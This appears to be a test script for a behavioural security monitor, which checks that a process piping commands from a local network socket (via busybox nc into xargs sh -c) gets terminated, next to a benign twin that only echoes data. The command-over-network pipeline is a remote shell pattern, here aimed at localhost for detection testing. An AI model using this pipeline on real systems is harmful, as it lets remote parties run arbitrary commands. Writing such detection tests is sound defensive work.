# R30t: twin: xargs takes data, and commands that it has asked for
# stage: behaviour
# expect: process_terminated
#   process.process_id: $client

#: prepare
. lib/logins.sh
python3 -c '
import socket, time
server = socket.create_server(("", 4625)); first, _ = server.accept()
for _ in range(10): time.sleep(0.3); first.sendall(b"one\n")
first.close(); second, _ = server.accept(); second.recv(4096)
for _ in range(5): time.sleep(0.3); second.sendall(b"sleep 0.1\n")' > /dev/null 2>&1 &
port 4625
#: act
. lib/logins.sh
act
bash -c 'cat < /dev/tcp/127.0.0.1/4625 | xargs -I{} sh -c "sleep 0.1; echo {}"
(echo list; sleep 3) | busybox nc 127.0.0.1 4625 | xargs -I{} sh -c {}' \
  < /dev/null > /dev/null 2>&1 & fact client $!
gone $client
